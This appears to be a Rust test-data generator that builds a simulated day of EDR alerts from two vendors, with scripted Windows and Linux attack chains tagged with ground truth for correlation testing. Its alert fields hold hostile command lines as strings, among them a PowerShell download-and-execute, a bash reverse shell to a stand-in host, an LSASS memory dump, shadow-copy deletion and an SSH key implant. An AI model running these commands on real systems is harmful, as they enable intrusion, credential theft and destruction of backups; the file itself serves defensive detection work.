//! Attacks of which the truth is known, written as an estate of the simulator: which alerts are about which activity.

use std::collections::BTreeSet;
use std::net::{Ipv4Addr, SocketAddrV4};

use chrono::{DateTime, TimeDelta, Utc};
use rand::rngs::StdRng;
use rand::{RngExt as _, SeedableRng as _};
use serde_json::{Map, Value, json};

/// The tag that names the truth of an alert; both vendors show tags, and nothing compares them.
pub const TRUTH: &str = "truth-";

/// The customers, each with a tenant of each vendor. They use the same names of hosts and domains.
pub const CUSTOMERS: [(&str, [&str; 2]); 2] =
    [("acme", ["acme", "acme-xdr"]), ("globex", ["globex", "globex-xdr"])];

/// A scripted day.
#[derive(Debug)]
pub struct Script {
    /// The estate, as the simulator reads it.
    pub estate: Value,
    /// The instant at which the estate is read.
    pub now: DateTime<Utc>,
    /// Activities that at least two alerts are about.
    pub activities: usize,
}

/// What one vendor calls a step of an attack, and what the step shows.
#[derive(Clone)]
struct Step {
    kinds: [&'static str; 2],
    /// The process, its parent and its grandparent.
    tree: [Value; 3],
    /// The process at the root of the chain, which Cortex XDR may name in place of the grandparent.
    root: Value,
    file: Option<Value>,
    remote: Option<SocketAddrV4>,
}

#[derive(Clone)]
struct Machine {
    customer: usize,
    /// The ids of its agents, by vendor.
    agents: [Option<String>; 2],
    linux: bool,
    /// How far the clock that Cortex XDR reads is off.
    skew: TimeDelta,
    explorer: u32,
}

/// What all machines of one campaign have in common.
#[derive(Clone)]
struct Campaign {
    number: u32,
    remote: SocketAddrV4,
    payload: String,
    digest: String,
    steps: Vec<u32>,
}

struct Writer {
    rng: StdRng,
    now: DateTime<Utc>,
    machines: Vec<Machine>,
    hosts: [[Vec<Value>; 2]; 2],
    alerts: [[Vec<Value>; 2]; 2],
    truths: u32,
    campaigns: u32,
    activities: usize,
}

/// The script of a seed: `machines` for each customer.
#[must_use]
pub fn script(seed: u64, machines: u32) -> Script {
    let now = DateTime::UNIX_EPOCH + TimeDelta::seconds(1_790_000_000);
    let mut writer = Writer {
        rng: StdRng::seed_from_u64(seed),
        now,
        machines: Vec::new(),
        hosts: Default::default(),
        alerts: Default::default(),
        truths: 0,
        campaigns: 0,
        activities: 0,
    };
    for customer in 0..2 {
        (0..machines).for_each(|number| writer.machine(customer, number));
    }
    writer.play();
    writer.finish()
}

fn run(path: &str, line: String, pid: u32) -> Value {
    json!({"path": path, "command_line": line, "pid": pid})
}

const SYSTEM: &str = r"C:\Windows\System32";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

impl Writer {
    fn chance(&mut self, percent: u32) -> bool {
        self.rng.random_range(0..100) < percent
    }

    fn pid(&mut self) -> u32 {
        self.rng.random_range(300..16_000) * 4
    }

    fn digest(&mut self) -> String {
        (0..64).map(|_| char::from_digit(self.rng.random_range(0..16), 16).unwrap_or('0')).collect()
    }

    /// Most machines carry both agents; on some the vendors know different names, or read different clocks.
    fn machine(&mut self, customer: usize, number: u32) {
        let linux = self.chance(20);
        let renamed = self.chance(10);
        let who = self.rng.random_range(0..100);
        let mac = format!("14:7d:da:{customer:02x}:{:02x}:{:02x}", number / 256, number % 256);
        let mut agents = [None, None];
        for (vendor, agent) in agents.iter_mut().enumerate() {
            if who < 84 || (who < 92) == (vendor == 0) {
                let id = format!(
                    "{:032x}",
                    (u128::from(self.truths + number) << 32) + (customer * 2 + vendor + 1) as u128
                );
                let name = if renamed && vendor == 1 {
                    format!("OLD-{number:04}")
                } else {
                    format!("LT-{number:04}")
                };
                self.hosts[customer][vendor].push(json!({
                    "id": id, "hostname": name, "domain": "corp.example", "mac": mac,
                    "platform": if linux { "linux" } else { "windows" },
                    "ip": Ipv4Addr::new(10, 7, u8::try_from(number / 200).unwrap_or(0), 2 + u8::try_from(number % 200).unwrap_or(0)).to_string(),
                    "user": format!("user{number}"), "first_seen": "90d", "last_seen": "10m",
                }));
                *agent = Some(id);
            }
        }
        let off = if self.chance(30) { self.rng.random_range(-110..=110) } else { 0 };
        let explorer = self.pid();
        self.machines.push(Machine { customer, agents, linux, skew: TimeDelta::seconds(off), explorer });
    }

    fn campaign(&mut self) -> Campaign {
        self.campaigns += 1;
        let far = Ipv4Addr::new(198, 51, 100, self.rng.random_range(1..250));
        let remote = SocketAddrV4::new(far, if self.chance(70) { 443 } else { 8443 });
        let all = 7;
        let mut steps: Vec<u32> = (0..all).filter(|_| self.chance(55)).collect();
        while steps.len() < 2 {
            steps = (0..all).filter(|_| self.chance(60)).collect();
        }
        Campaign {
            number: self.campaigns,
            remote,
            payload: format!("upd{:05}.exe", self.campaigns),
            digest: self.digest(),
            steps,
        }
    }

    /// The traps, one after another over twenty days; a quarter of the machines sees nothing.
    fn play(&mut self) {
        let machines = self.machines.len();
        let at = |day: i64, now: DateTime<Utc>| now - TimeDelta::hours(12 + 24 * day);
        for index in 0..machines {
            let begin = at(i64::try_from(index % 20).unwrap_or(0), self.now)
                + TimeDelta::seconds(self.rng.random_range(0..3_600));
            match self.rng.random_range(0..100) {
                0..30 => {
                    let campaign = self.campaign();
                    self.attack(index, &campaign, begin);
                }
                // Two attacks that have nothing to do with each other, a few minutes apart.
                30..45 => {
                    let (first, second) = (self.campaign(), self.campaign());
                    self.attack(index, &first, begin);
                    let after = begin + TimeDelta::seconds(self.rng.random_range(60..540));
                    self.attack(index, &second, after);
                }
                // One campaign on several machines at once, of both customers.
                45..55 => {
                    let campaign = self.campaign();
                    // A name and its twin at the other customer are always among them.
                    let mut victims = BTreeSet::from([index, (index + machines / 2) % machines]);
                    victims
                        .extend((0..self.rng.random_range(1..5)).map(|_| self.rng.random_range(0..machines)));
                    for victim in victims {
                        let after = begin + TimeDelta::seconds(self.rng.random_range(0..120));
                        self.attack(victim, &campaign, after);
                    }
                }
                // A script that somebody runs again and again, alone or while an attack goes on.
                55..75 => {
                    self.routine(index, begin);
                    if self.chance(50) {
                        let campaign = self.campaign();
                        let after = begin + TimeDelta::seconds(self.rng.random_range(0..900));
                        self.attack(index, &campaign, after);
                    }
                }
                _ => {}
            }
        }
    }

    fn attack(&mut self, index: usize, campaign: &Campaign, begin: DateTime<Utc>) {
        let machine = self.machines[index].clone();
        let steps = if machine.linux { self.linux(campaign) } else { self.windows(&machine, campaign) };
        self.truths += 1;
        let mut at = begin;
        let mut seen = 0;
        for step in campaign.steps.iter().filter_map(|n| steps.get(*n as usize)) {
            seen += self.seen(&machine, step, at, 82);
            at += TimeDelta::seconds(self.rng.random_range(3..240));
        }
        self.activities += usize::from(seen > 1);
    }

    /// From a document over a shell to a payload, and what the payload starts.
    fn windows(&mut self, machine: &Machine, campaign: &Campaign) -> Vec<Step> {
        let n = campaign.number;
        let far = campaign.remote;
        let explorer = run(r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE".into(), machine.explorer);
        let document = format!(r#""WINWORD.EXE" /n "C:\Users\u\Downloads\Order {n}.docm""#);
        let word = run(r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", document, self.pid());
        let shell = run(&format!(r"{SYSTEM}\cmd.exe"), format!(r"cmd.exe /c %TEMP%\{n}.bat"), self.pid());
        let fetch = format!("powershell.exe -nop -w hidden -c \"iwr http://{far}/{n}.ps1 | iex\"");
        let power = run(POWERSHELL, fetch, self.pid());
        let folder = r"C:\Users\u\AppData\Roaming";
        let mut payload = run(
            &format!(r"{folder}\{}", campaign.payload),
            format!("{} -k {n}", campaign.payload),
            self.pid(),
        );
        payload["sha256"] = json!(campaign.digest);
        let file = json!({"path": format!(r"{folder}\{}", campaign.payload), "sha256": campaign.digest});
        let dump = json!({"path": format!(r"C:\Temp\{n}.dmp"), "sha256": self.digest()});
        let mut tool = |name: &str, said: String| run(&format!(r"{SYSTEM}\{name}"), said, self.pid());
        let lsass =
            tool("rundll32.exe", format!(r"rundll32.exe comsvcs.dll, MiniDump 712 C:\Temp\{n}.dmp full"));
        let registry =
            tool("reg.exe", format!(r"reg add HKCU\Software\Run /v U{n} /d {folder}\{}", campaign.payload));
        let shadows = tool("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet".into());
        let step = |kinds, tree: [&Value; 3], file: Option<&Value>, remote| Step {
            kinds,
            tree: tree.map(Value::clone),
            root: word.clone(),
            file: file.cloned(),
            remote,
        };
        let (far, file) = (Some(far), Some(&file));
        vec![
            step(["OfficeSpawnedShell", "OfficeSpawnedShell"], [&shell, &word, &explorer], file, None),
            step(["SuspiciousPowerShellDownload"; 2], [&power, &shell, &word], None, far),
            step(["MaliciousFileWritten", "UserExecutedDownload"], [&payload, &power, &shell], file, None),
            step(["BeaconToKnownServer"; 2], [&payload, &power, &shell], None, far),
            step(["CredentialDumpFromLsass"; 2], [&lsass, &payload, &power], Some(&dump), None),
            step(["RunKeyPersistence"; 2], [&registry, &payload, &power], None, None),
            step(["ShadowCopiesDeleted"; 2], [&shadows, &payload, &power], None, None),
        ]
    }

    /// From a logon over a shell to a payload.
    fn linux(&mut self, campaign: &Campaign) -> Vec<Step> {
        let (n, far) = (campaign.number, campaign.remote);
        let daemon = run("/usr/sbin/sshd", "sshd: root [priv]".into(), 812);
        let shell = run("/usr/bin/bash", "-bash".into(), self.pid());
        let reverse =
            run("/usr/bin/bash", format!("bash -i >& /dev/tcp/{}/{} 0>&1", far.ip(), far.port()), self.pid());
        let mut payload = run(&format!("/tmp/.{n}/kworkerds"), format!("/tmp/.{n}/kworkerds -d"), self.pid());
        payload["sha256"] = json!(campaign.digest);
        let keys = run("/usr/bin/tee", "tee -a /root/.ssh/authorized_keys".into(), self.pid());
        let file = json!({"path": format!("/tmp/.{n}/kworkerds"), "sha256": campaign.digest});
        let authorized = json!({"path": "/root/.ssh/authorized_keys", "sha256": self.digest()});
        let step = |kinds, tree: [&Value; 3], file: Option<&Value>, remote| Step {
            kinds,
            tree: tree.map(Value::clone),
            root: shell.clone(),
            file: file.cloned(),
            remote,
        };
        let reversed = step(["ReverseShell"; 2], [&reverse, &shell, &daemon], None, Some(far));
        let written = step(["MaliciousFileWritten"; 2], [&payload, &reverse, &shell], Some(&file), None);
        let beacon = step(["BeaconToKnownServer"; 2], [&payload, &reverse, &shell], None, Some(far));
        let key = step(["SshKeyAdded"; 2], [&keys, &reverse, &shell], Some(&authorized), None);
        vec![reversed.clone(), reversed, written.clone(), beacon.clone(), key, written, beacon]
    }

    /// Each run is an activity of its own.
    fn routine(&mut self, index: usize, begin: DateTime<Utc>) {
        let machine = self.machines[index].clone();
        let managed = self.chance(40);
        let runs = if managed { self.rng.random_range(6..12) } else { self.rng.random_range(2..12) };
        let agent = match (machine.linux, managed) {
            (false, true) => {
                run(r"C:\Windows\CCM\CcmExec.exe", r"C:\Windows\CCM\CcmExec.exe".into(), self.pid())
            }
            (false, false) => run(&format!(r"{SYSTEM}\svchost.exe"), "svchost.exe -k netsvcs".into(), 1_208),
            (true, true) => run("/opt/puppet/bin/agent", "agent --daemon".into(), self.pid()),
            (true, false) => run("/usr/sbin/crond", "crond -n".into(), 640),
        };
        let far = Some(SocketAddrV4::new(Ipv4Addr::new(10, 9, 9, 9), 443));
        let mut at = begin;
        for _ in 0..runs {
            let (kind, process, above) = if machine.linux {
                let process = run("/usr/bin/bash", "bash /opt/inventory.sh --full".into(), self.pid());
                ("ReverseShell", process, run("/usr/lib/systemd/systemd", "/sbin/init".into(), 1))
            } else {
                let line = r"powershell.exe -ExecutionPolicy Bypass -File C:\IT\inventory.ps1";
                let process = run(POWERSHELL, line.into(), self.pid());
                (
                    "SuspiciousPowerShellDownload",
                    process,
                    run(&format!(r"{SYSTEM}\services.exe"), "services.exe".into(), 700),
                )
            };
            let (tree, root) = ([process, agent.clone(), above.clone()], above);
            self.truths += 1;
            let seen =
                self.seen(&machine, &Step { kinds: [kind; 2], tree, root, file: None, remote: far }, at, 70);
            self.activities += usize::from(seen > 1);
            at += TimeDelta::seconds(self.rng.random_range(180..900));
        }
    }

    /// Each vendor that sees the step raises an alert about it. Returns how many do.
    fn seen(&mut self, machine: &Machine, step: &Step, at: DateTime<Utc>, percent: u32) -> usize {
        let mut seen = 0;
        for vendor in 0..2 {
            let Some(agent) = machine.agents[vendor].clone() else { continue };
            if !self.chance(percent) {
                continue;
            }
            seen += 1;
            let [process, parent, mut above] = step.tree.clone();
            let mut happened = at + TimeDelta::seconds(self.rng.random_range(0..4));
            if vendor == 1 {
                happened += machine.skew;
                above = if self.chance(70) { step.root.clone() } else { above };
            }
            let created = at + TimeDelta::seconds(self.rng.random_range(10..120));
            let mut alert = Map::new();
            for (key, value) in [
                ("kind", json!(step.kinds[vendor])),
                ("host", json!(agent)),
                ("tags", json!([format!("{TRUTH}{}", self.truths)])),
                ("happened", json!(happened.to_rfc3339())),
                ("created", json!(created.to_rfc3339())),
                ("process", process),
                ("parent", parent),
                ("grandparent", above),
            ] {
                alert.insert(key.to_owned(), value);
            }
            alert.extend(step.file.clone().map(|file| ("file".to_owned(), file)));
            alert.extend(step.remote.map(|remote| ("remote".to_owned(), json!(remote.to_string()))));
            self.alerts[machine.customer][vendor].push(Value::Object(alert));
        }
        seen
    }

    fn finish(mut self) -> Script {
        let mut tenants = Vec::new();
        for (customer, (_, names)) in CUSTOMERS.iter().enumerate() {
            for (vendor, name) in names.iter().enumerate() {
                let product = ["falcon", "cortex"][vendor];
                tenants.push(json!({
                    "vendor": product, "name": name,
                    "host": std::mem::take(&mut self.hosts[customer][vendor]),
                    "alert": std::mem::take(&mut self.alerts[customer][vendor]),
                }));
            }
        }
        Script { estate: json!({ "tenant": tenants }), now: self.now, activities: self.activities }
    }
}
